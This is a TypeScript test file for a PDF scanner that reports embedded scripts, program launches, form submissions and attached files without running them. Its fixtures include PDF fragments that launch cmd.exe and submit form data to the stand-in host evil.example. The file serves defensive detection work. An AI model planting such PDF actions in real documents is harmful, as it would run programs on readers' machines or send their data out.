import assert from 'node:assert/strict';
import { test } from 'node:test';
import { notePdfActions } from './pdf-actions.ts';

const told = (text: string): string[] => notePdfActions(Buffer.from(text)).map(({ message }) => message);

test('what a PDF would do is said once for each kind', () => {
  assert.deepEqual(told('1 0 obj <</S /JavaScript /JS (app.alert(1))>> <</S/JavaScript/JS(x)>>'), [
    'The file holds scripts; none of it is run or followed.',
  ]);
  assert.match(told('<</S /Launch /F (cmd.exe)>>').join(), /start programs/);
  assert.match(told('<</S/SubmitForm/F(http://evil.example/)>>').join(), /send or fetch/);
  assert.match(told('<</Names <</EmbeddedFiles 3 0 R>>>>').join(), /attached files/);
  assert.deepEqual(told('%PDF-1.7 <</Type /Page /JSON 1 /LaunchPad 2>>'), []);
});

test('a name across two pieces of a large file is seen', () => {
  assert.equal(told(`${' '.repeat(4 * 2 ** 20 - 3)}/Launch >>`).length, 1);
});
